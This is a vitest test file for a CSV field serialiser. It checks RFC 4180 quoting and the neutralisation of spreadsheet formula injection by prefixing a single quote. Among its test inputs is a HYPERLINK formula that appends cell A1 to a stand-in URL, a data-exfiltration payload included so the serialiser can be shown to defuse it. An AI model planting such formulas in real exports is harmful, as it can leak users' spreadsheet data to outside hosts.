// RFC 4180 output of format=csv.
import { describe, expect, it } from 'vitest';
import { csvField, csvLine } from '@censo/shared';

describe('csv', () => {
  it.each([
    ['simples', 'simples'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['diz "oi"', '"diz ""oi"""'],
    ['linha 1\nlinha 2', '"linha 1\nlinha 2"'],
    ['cr\r', '"cr\r"'],
    [' espaços ', ' espaços '],
    ['ação; ok', 'ação; ok'],
  ])('%j → %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  // SPEC §3.5: OWASP's neutralisation of spreadsheet formulas, then RFC 4180 quoting.
  it.each([
    ['=1+1', "'=1+1"],
    ['+5511', "'+5511"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['=HYPERLINK("http://x?"&A1,"y")', `"'=HYPERLINK(""http://x?""&A1,""y"")"`],
    ['a=1', 'a=1'],
    [' =1', ' =1'],
  ])('neutralises %j → %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it('writes NULL as an empty field and ends lines with CRLF', () => {
    expect(csvLine(['1', null, 'a,b', ''])).toBe('1,,"a,b",\r\n');
  });
});
